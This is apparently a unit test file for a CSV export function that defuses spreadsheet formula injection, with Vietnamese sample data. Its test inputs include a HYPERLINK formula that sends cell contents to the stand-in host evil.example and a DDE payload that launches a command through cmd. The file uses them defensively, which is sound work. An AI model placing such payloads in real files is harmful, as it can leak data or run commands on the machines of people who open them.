import { neutralizeCell, toCsv } from './csv';

describe('CSV exports', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+84905123456', "'+84905123456"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralises a cell that a spreadsheet would run: %j', (text, expected) => {
    expect(neutralizeCell(text)).toBe(expected);
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(neutralizeCell('Nguyễn Thị Hồng Thủy')).toBe('Nguyễn Thị Hồng Thủy');
    expect(neutralizeCell('Công ty A-B')).toBe('Công ty A-B');
    expect(toCsv(['STT', 'Tổ chức, cá nhân', 'Chênh lệch'], [[1, '=1+1', -5]])).toBe('\uFEFFSTT,"Tổ chức, cá nhân",Chênh lệch\n1,\'=1+1,-5\n');
  });
});
